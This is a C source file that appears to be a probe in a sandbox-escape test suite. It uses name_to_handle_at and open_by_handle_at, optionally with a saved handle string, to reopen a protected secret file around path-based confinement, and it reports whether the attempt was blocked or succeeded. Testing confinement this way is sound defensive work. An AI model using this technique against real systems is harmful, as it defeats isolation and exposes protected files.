/* name_to_handle_at + open_by_handle_at:
 *   attack_handle TARGET [HANDLE]  HANDLE: "type:hex" taken earlier
 *   attack_handle --print TARGET   prints the handle as "type:hex" */
#include "attack.h"
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	struct file_handle *fh = calloc(1, sizeof(*fh) + 128);
	unsigned char *bytes;
	int mnt, fd, mntid;
	char dir[4096], base[4096], tmp[4096];

	if (argc < 2 || !fh)
		return 2;
	bytes = (unsigned char *)fh + sizeof(*fh);
	fh->handle_bytes = 128;
	if (!strcmp(argv[1], "--print")) {
		if (argc < 3 || name_to_handle_at(AT_FDCWD, argv[2], fh, &mntid, 0) < 0)
			return 1;
		printf("%d:", fh->handle_type);
		for (unsigned i = 0; i < fh->handle_bytes; i++)
			printf("%02x", bytes[i]);
		printf("\n");
		return 0;
	}
	if (name_to_handle_at(AT_FDCWD, argv[1], fh, &mntid, 0) < 0) {
		int e = errno;
		const char *s = argc > 2 ? argv[2] : NULL;
		if (!s)
			blocked("name_to_handle_at: %s", ename(e));
		fh->handle_type = atoi(s);
		s = strchr(s, ':');
		if (!s)
			return 2;
		s++;
		fh->handle_bytes = 0;
		while (s[0] && s[1] && fh->handle_bytes < 128) {
			unsigned v;
			sscanf(s, "%2x", &v);
			bytes[fh->handle_bytes++] = (unsigned char)v;
			s += 2;
		}
	}
	/* a directory of the target's file system: its nearest open ancestor */
	mnt = -1;
	split_path(argv[1], dir, base, sizeof(dir));
	for (;;) {
		mnt = open(dir, O_RDONLY | O_DIRECTORY);
		if (mnt >= 0 || !strcmp(dir, "/"))
			break;
		snprintf(tmp, sizeof(tmp), "%s", dir);
		split_path(tmp, dir, base, sizeof(dir));
	}
	fd = open_by_handle_at(mnt, fh, O_RDONLY);
	if (fd < 0)
		blocked("open_by_handle_at: %s", ename(errno));
	if (fd_is_secret(fd))
		escaped("read through open_by_handle_at");
	blocked("opened but not the secret");
}
